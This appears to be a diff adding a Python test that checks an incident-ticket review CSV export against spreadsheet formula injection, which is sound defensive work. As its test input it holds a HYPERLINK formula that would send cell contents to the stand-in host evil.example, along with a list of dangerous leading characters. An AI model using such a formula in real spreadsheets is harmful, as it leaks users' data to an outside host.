@@ -1,0 +1,16 @@
+import csv
+import io
+
+from incident_cmd.tickets import review
+
+
+def test_every_cell_of_the_review_csv_is_safe_for_spreadsheets(queue):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"PX-200")'
+    queue.take_in(product_model=formula, batch="@B7", channel="phone")
+    report = review.monthly_review(queue.session, period="2026-11")
+    rows = list(csv.reader(io.StringIO(review.as_csv(report))))
+    assert ["by_product", "'" + formula, "1"] in rows
+    assert ["by_batch", "'@B7", "1"] in rows
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(dangerous)]
